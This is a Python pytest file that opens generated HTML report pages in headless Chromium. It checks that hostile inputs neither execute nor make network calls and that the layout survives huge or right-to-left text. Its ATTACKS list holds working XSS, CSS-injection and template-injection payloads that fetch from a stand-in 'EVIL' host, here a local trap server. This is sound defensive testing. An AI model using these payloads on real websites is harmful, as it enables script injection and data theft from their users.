"""Both pages full of hostile texts, opened as files in a real browser: nothing runs, nothing leaves, and the page stays usable."""

from __future__ import annotations

import re
import shutil
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest

from tests.report import compare_pages, pages

CHROMIUM = shutil.which("chromium")
pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed; on Debian: apt-get install chromium"),
]
PAGES: dict[str, Callable[[str], str]] = {"report": pages.hostile_page, "comparison": compare_pages.hostile_page}
EVIL = "http://127.0.0.1:{port}"
ATTACKS = (
    "<script>document.title='pwned';fetch('EVIL/1')</script>",
    "</script><script src='EVIL/2'></script>",
    "</style><style>*{display:none!important;background:url(EVIL/3)}</style>",
    "</title></textarea></svg></code></summary></details></main><img src=EVIL/4 onerror=document.title='pwned'>",
    "<svg onload=document.title='pwned'><image href=EVIL/5 /><foreignObject><iframe src=EVIL/6></iframe></foreignObject></svg>",
    '"\' onmouseover="document.title=\'pwned\'" style="position:fixed;inset:0;background:url(EVIL/7)" autofocus onfocus=\'alert(1)\' x="',
    "<details open ontoggle=\"document.title='pwned'\"><video src=EVIL/8 autoplay onerror=alert(1)>",
    "<a href=\"javascript:document.title='pwned'\" ping=EVIL/9>x</a> [x](javascript:alert(1)) ![x](EVIL/10) <EVIL/11> [y]: EVIL/12",
    "<base href=EVIL/13/><meta http-equiv=refresh content='0;url=EVIL/14'><link rel=stylesheet href=EVIL/15><form action=EVIL/16><button>x",
    "<iframe srcdoc=\"<script>top.document.title='pwned'</script>\"></iframe><object data=EVIL/17></object><embed src=EVIL/18>",
    "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=EVIL/19 onerror=alert(1)&gt;'>",
    "{{ 7 * 191 }} {% for x in y %} ${alert(1)} #{1} <%= 1 %> {{ self.__init__.__globals__ }} &#x3C;script&#x3E;alert(1)&lt;/script>",
    "- `<img src=EVIL/20 onerror=alert(1)>`\n```html\n<script>alert(1)</script>\n```\n<!-- \n1. <b>x</b>\n| a | b |\n|---|---|\n",
    "\x00\x01\x07\x08\x0b\x0c\x1b[31m\x1b]8;;EVIL/21\x07\x7f\x85\x9b31m \ud800 \udfff \ufeff \u2028\u2029",
    "\u202e\u202d\u202b\u2066\u2067\u2068 pwned \u202c\u2069\u061c\u200e\u200f",
    "\U000e0001\U000e0041\U000e0042 \ufff9a\ufffab\ufffb",
    "position:fixed;top:0;left:0;width:100vw;height:100vh;background:url('EVIL/22');}*{display:none}",
    "]]></style><![CDATA[<script>alert(1)</script>]]><?xml-stylesheet href='EVIL/23'?><!ENTITY x SYSTEM 'EVIL/24'>",
)
LONG = ("w" * 1_000_000, "<b>" * 350_000, "\u05d0" * 1_000_000, "- `" * 300_000, "“x” (" * 200_000)
OPEN_ALL = "document.querySelectorAll('details').forEach((one) => { one.open = true })"
CSP = re.compile(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>\n")


@dataclass
class Trap:
    """A server that nobody should ever call."""

    address: str
    hits: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    caught = Trap("")

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            caught.hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815 - the names that the base class looks for

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the name that the base class gives it
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        caught.address = EVIL.format(port=server.server_port)
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield caught
        server.shutdown()
        thread.join()


@dataclass
class Tab:
    """A page in the browser, with all that it tried to do."""

    page: Any
    folder: Path
    done: list[str] = field(default_factory=list)

    def show(self, html: str) -> None:
        """Open a page as the file that a user has saved."""
        file = self.folder / "page.html"
        file.write_bytes(html.encode())
        self.done.clear()
        self.page.goto(file.as_uri(), wait_until="load")

    def provoke(self) -> None:
        """Unfold everything, and go over everything with mouse and keyboard."""
        self.page.evaluate(OPEN_ALL)
        for one in ("h1", "h3", ".text", ".call", ".criterion"):
            self.page.locator(one).first.hover(timeout=5_000)
        self.page.keyboard.press("Tab")
        self.page.wait_for_timeout(50)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    flags = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-background-networking"]
    with sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=CHROMIUM, args=flags)
        yield started
        started.close()


@pytest.fixture
def tab(browser: Any, tmp_path: Path) -> Iterator[Tab]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    opened = Tab(context.new_page(), tmp_path)
    opened.page.on("request", lambda request: opened.done.append(request.url))
    opened.page.on("console", lambda message: opened.done.append(message.text))
    opened.page.on("pageerror", lambda error: opened.done.append(str(error)))
    opened.page.on("dialog", lambda dialog: (opened.done.append("dialog"), dialog.dismiss()))
    context.on("page", lambda another: opened.done.append(another.url))
    yield opened
    context.close()


@pytest.mark.slow
@pytest.mark.parametrize("policy", [True, False], ids=["with its policy", "by escaping alone"])
@pytest.mark.parametrize("kind", PAGES)
def test_nothing_runs_and_nothing_leaves(tab: Tab, trap: Trap, kind: str, *, policy: bool) -> None:
    trap.hits.clear()
    for attack in ATTACKS:
        html = PAGES[kind](attack.replace("EVIL", trap.address))
        assert len(CSP.findall(html)) == 1
        tab.show(html if policy else CSP.sub("", html))
        title = tab.page.title()
        tab.provoke()
        assert tab.page.title() == title != "pwned"
        assert title.startswith(("failed: ", "compared: "))
        assert tab.done == [(tab.folder / "page.html").as_uri()], attack  # the file itself, and not even a complaint
        assert tab.page.evaluate("document.querySelectorAll('img, iframe, object, embed, link, base, form, a, video, image').length") == 0
        assert tab.page.locator(".case").first.bounding_box()["width"] > 900
        assert tab.page.evaluate("document.documentElement.scrollWidth") <= 1280
    assert trap.hits == []


@pytest.mark.slow
@pytest.mark.parametrize("text", LONG, ids=["one word", "tags", "right to left", "Markdown", "quotes"])
@pytest.mark.parametrize("kind", PAGES)
def test_a_line_of_a_megabyte_leaves_the_page_usable(tab: Tab, kind: str, text: str) -> None:
    html = PAGES[kind](text)
    assert len(html) < 8_000_000
    for width in (1280, 400):
        tab.page.set_viewport_size({"width": width, "height": 800})
        tab.show(html)
        assert tab.page.locator("h1").bounding_box()["height"] < 1_300
        assert tab.page.locator(".case > summary").first.bounding_box()["height"] < 1_500
        tab.page.evaluate(OPEN_ALL)
        assert tab.page.evaluate("document.documentElement.scrollWidth") <= width
        assert tab.page.locator("h2").first.is_visible()


TURNING = "\u202e\u2067\u202bאבג דהו 123"
LATIN = "abc def 123"


def places(tab: Tab, selectors: list[str]) -> list[list[float]]:
    """Return from where to where the first element of each kind goes on its line."""
    boxes = (tab.page.locator(selector).first.bounding_box() for selector in selectors)
    return [[box["x"], box["x"] + box["width"], box["y"]] for box in boxes]


@pytest.mark.parametrize(
    ("kind", "line"),
    [
        ("report", [".case > summary .badge", ".case > summary h3", ".case > summary > .quiet"]),
        ("report", [".score .mark", ".score .criterion", ".score strong", ".score .quiet"]),
        ("report", [".chip .mark", ".chip span[dir]"]),
        ("comparison", [".case > summary .badge", ".case > summary .arrow", ".case > summary h3", ".case > summary > .quiet"]),
        ("comparison", [".causes .mark", ".causes .criterion", ".causes strong"]),
        ("comparison", [".chip .mark", ".chip bdi"]),
    ],
)
def test_text_that_reads_from_right_to_left_leaves_its_neighbours_in_place(tab: Tab, kind: str, line: list[str]) -> None:
    for text in (LATIN, TURNING):
        tab.show(PAGES[kind](text))
        tab.page.evaluate(OPEN_ALL)
        found = places(tab, line)
        assert [left for left, _, _ in found] == sorted(left for left, _, _ in found)
        assert all(before[1] <= after[0] + 1 for before, after in pairwise(found))
        shown = tab.page.inner_text("body")
        assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]", shown)


@pytest.mark.parametrize("kind", PAGES)
def test_what_cannot_be_seen_stands_there_by_name(tab: Tab, kind: str) -> None:
    tab.show(PAGES[kind]("a\x00b\u202ec\ud800d\U000e0041e\x1bf"))
    assert "a⟨U+0000⟩b⟨U+202E⟩c⟨U+D800⟩d⟨U+E0041⟩e⟨U+001B⟩f" in tab.page.inner_text("h1")
